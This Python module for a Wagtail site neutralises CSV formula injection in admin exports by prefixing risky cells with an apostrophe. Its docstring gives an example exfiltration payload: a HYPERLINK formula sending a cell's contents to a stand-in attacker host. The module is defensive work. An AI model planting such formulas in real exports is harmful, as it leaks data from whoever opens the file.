"""CSV cells that a spreadsheet never runs as a formula.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula (and tab or carriage return can smuggle one in), so a registration named
``=HYPERLINK("https://evil.example/?d="&A2,"klik")`` would run on the secretariat's machine
when it opens an export. Every CSV the site writes goes through ``neutralise``: such a cell
gets a leading apostrophe, which spreadsheets show as text (OWASP "CSV injection").

All admin exports (our modeladmins, Wagtail's reports and form submissions) are streamed by
Wagtail's ``SpreadsheetExportMixin``; ``install()`` (called once from ``CoreConfig.ready``)
makes its CSV writer use ``FormulaSafeWriter`` for the header and every row. Code writing a
CSV by hand wraps its ``csv.writer`` / ``csv.DictWriter`` in ``FormulaSafeWriter`` too.
Excel (.xlsx) exports are already safe: Wagtail stores every cell as text, not formula.
"""

from __future__ import annotations

import csv as _csv

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` as a spreadsheet shows it, never evaluates it (non-strings are unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class FormulaSafeWriter:
    """Wraps a ``csv.writer`` or ``csv.DictWriter``; every cell passes through ``neutralise``."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        if isinstance(row, dict):
            return self._writer.writerow({key: neutralise(value) for key, value in row.items()})
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def __getattr__(self, name):
        return getattr(self._writer, name)


def _stream_csv(self, queryset):
    """``SpreadsheetExportMixin.stream_csv`` with the formula-safe writer (header included)."""
    writer = FormulaSafeWriter(_csv.DictWriter(Echo(), fieldnames=self.list_export))
    yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
    for item in queryset:
        yield self.write_csv_row(writer, self.to_row_dict(item))


def install() -> None:
    """Route every Wagtail/modeladmin CSV export through ``FormulaSafeWriter``."""
    SpreadsheetExportMixin.stream_csv = _stream_csv
